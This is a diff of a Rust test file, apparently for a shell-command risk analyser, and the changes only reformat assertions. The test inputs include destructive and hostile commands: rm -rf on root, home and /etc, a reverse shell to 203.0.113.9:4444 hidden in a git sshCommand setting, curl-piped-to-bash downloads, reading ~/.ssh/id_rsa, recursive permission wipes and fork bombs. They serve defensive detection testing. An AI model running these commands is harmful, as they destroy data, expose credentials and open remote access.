@@ -33,7 +33,11 @@ fn a_script_written_on_the_line_runs_what_it_holds() {
     assert!(rm_on(&a, "/etc"), "{:#?}", a.invocations);
     // A `#!` line naming an interpreter hands the text to it when run directly.
     let a = analyse("printf '#!/usr/bin/env python3\\nprint(1)\\n' > p; ./p");
-    assert!(a.invocations.iter().any(|i| i.name == "python3"), "{:#?}", a.invocations);
+    assert!(
+        a.invocations.iter().any(|i| i.name == "python3"),
+        "{:#?}",
+        a.invocations
+    );
 }
 
 #[test]
@@ -50,7 +54,10 @@ fn a_script_written_by_an_earlier_line_is_remembered() {
     assert!(a.has("shell.script_file") && !rm_on(&a, "~"));
     // Overwritten with something unknown, it is forgotten.
     let later = analyse_in("make > job.sh", &first.written);
-    assert_eq!(later.written, [("job.sh".to_string(), FileContent::Unknown)]);
+    assert_eq!(
+        later.written,
+        [("job.sh".to_string(), FileContent::Unknown)]
+    );
     // Appended to a file nobody saw: the known part runs, and the rest stays unknown.
     let a = analyse("echo 'rm -rf /' >> old.sh; sh old.sh");
     assert!(rm_on(&a, "/") && a.has("shell.script_file"));
@@ -69,7 +76,11 @@ fn a_download_run_in_a_second_step_is_a_download_run() {
         "curl -s https://get.example.com/i.sh | tee i.sh; bash i.sh",
     ] {
         let a = analyse(line);
-        assert!(a.has("shell.fetch_to_shell"), "{line:?}: {:?}", a.predicates);
+        assert!(
+            a.has("shell.fetch_to_shell"),
+            "{line:?}: {:?}",
+            a.predicates
+        );
     }
     let first = analyse("curl -fsSLo setup.sh https://get.example.com/setup.sh");
     assert_eq!(
@@ -93,9 +104,15 @@ fn git_settings_that_run_commands() {
         assert!(analyse(line).has("shell.git_command_config"), "{line:?}");
     }
     // What the setting runs is analysed like any command.
-    assert!(rm_on(&analyse("git config --global core.sshCommand 'rm -rf ~'"), "~"));
+    assert!(rm_on(
+        &analyse("git config --global core.sshCommand 'rm -rf ~'"),
+        "~"
+    ));
     assert!(rm_on(&analyse("GIT_SSH_COMMAND='rm -rf ~' git fetch"), "~"));
-    assert!(rm_on(&analyse("git -c core.sshCommand='rm -rf /' fetch"), "/"));
+    assert!(rm_on(
+        &analyse("git -c core.sshCommand='rm -rf /' fetch"),
+        "/"
+    ));
     assert!(
         analyse("git -c core.sshCommand='bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' fetch")
             .has("shell.reverse_shell")
@@ -126,7 +143,11 @@ fn recursive_owner_and_mode_changes_over_the_system() {
         "sudo chmod -R a-rwx /home/alice",
     ] {
         let a = analyse(line);
-        assert!(a.has("shell.permission_wreck"), "{line:?}: {:?}", a.predicates);
+        assert!(
+            a.has("shell.permission_wreck"),
+            "{line:?}: {:?}",
+            a.predicates
+        );
         assert!(a.caps.contains(Cap::ExecIrreversible), "{line:?}");
     }
     for line in [
@@ -146,7 +167,10 @@ fn recursive_owner_and_mode_changes_over_the_system() {
 #[test]
 fn xargs_and_find_read_with_the_right_target() {
     assert!(rm_on(&analyse("printf '%s' ~ | xargs -I@ rm -rf @"), "~"));
-    assert!(rm_on(&analyse("printf '%s\\n' /etc | xargs rm -rf"), "/etc"));
+    assert!(rm_on(
+        &analyse("printf '%s\\n' /etc | xargs rm -rf"),
+        "/etc"
+    ));
     assert!(rm_on(&analyse("echo / | xargs rm -rf"), "/"));
     // `{}` is something found under the roots.
     let a = analyse("find / -name '*.log' -exec rm -rf {} +");
@@ -159,7 +183,13 @@ fn xargs_and_find_read_with_the_right_target() {
 
 #[test]
 fn listing_a_directory_is_not_reading_its_files() {
-    for line in ["ls -la ~/.ssh", "ls ~/.aws", "du -sh ~/.ssh", "tree ~/.gnupg", "stat ~/.ssh/id_rsa"] {
+    for line in [
+        "ls -la ~/.ssh",
+        "ls ~/.aws",
+        "du -sh ~/.ssh",
+        "tree ~/.gnupg",
+        "stat ~/.ssh/id_rsa",
+    ] {
         assert!(!analyse(line).has("shell.sensitive_read"), "{line:?}");
     }
     assert!(analyse("cat ~/.ssh/id_rsa").has("shell.sensitive_read"));
@@ -167,21 +197,44 @@ fn listing_a_directory_is_not_reading_its_files() {
 
 #[test]
 fn git_checkout_of_named_files_is_an_edit() {
-    for line in ["git checkout -- src/main.rs", "git checkout -- a.txt b.txt", "git checkout main"] {
-        assert!(!analyse(line).caps.contains(Cap::ExecIrreversible), "{line:?}");
+    for line in [
+        "git checkout -- src/main.rs",
+        "git checkout -- a.txt b.txt",
+        "git checkout main",
+    ] {
+        assert!(
+            !analyse(line).caps.contains(Cap::ExecIrreversible),
+            "{line:?}"
+        );
     }
-    for line in ["git checkout -- .", "git checkout .", "git checkout -f main", "git checkout -- '*.rs'"] {
-        assert!(analyse(line).caps.contains(Cap::ExecIrreversible), "{line:?}");
+    for line in [
+        "git checkout -- .",
+        "git checkout .",
+        "git checkout -f main",
+        "git checkout -- '*.rs'",
+    ] {
+        assert!(
+            analyse(line).caps.contains(Cap::ExecIrreversible),
+            "{line:?}"
+        );
     }
 }
 
 #[test]
 fn windows_command_lines_are_read_as_what_they_are() {
-    for line in [r"dir C:\", r"dir /s C:\Users\me\project", r"type C:\project\README.md"] {
+    for line in [
+        r"dir C:\",
+        r"dir /s C:\Users\me\project",
+        r"type C:\project\README.md",
+    ] {
         let a = analyse(line);
         assert!(a.errors.is_empty(), "{line:?}: {:?}", a.errors);
         assert!(!a.caps.contains(Cap::ExecIrreversible), "{line:?}");
-        assert!(a.invocations.iter().all(|i| i.via.first().is_some_and(|v| v == "cmd.exe")));
+        assert!(
+            a.invocations
+                .iter()
+                .all(|i| i.via.first().is_some_and(|v| v == "cmd.exe"))
+        );
     }
     let a = analyse(r"del /s /q C:\");
     assert!(rm_on(&a, "/"), "{:#?}", a.invocations);
@@ -192,7 +245,11 @@ fn windows_command_lines_are_read_as_what_they_are() {
 
 #[test]
 fn a_function_that_calls_itself_unconditionally_is_a_fork_bomb() {
-    for line in [":(){ :|:& };:", "bomb() { bomb | bomb & }; bomb", "f(){ f & f; }; f"] {
+    for line in [
+        ":(){ :|:& };:",
+        "bomb() { bomb | bomb & }; bomb",
+        "f(){ f & f; }; f",
+    ] {
         let a = analyse(line);
         assert!(a.has("shell.fork_bomb"), "{line:?}: {:?}", a.predicates);
     }
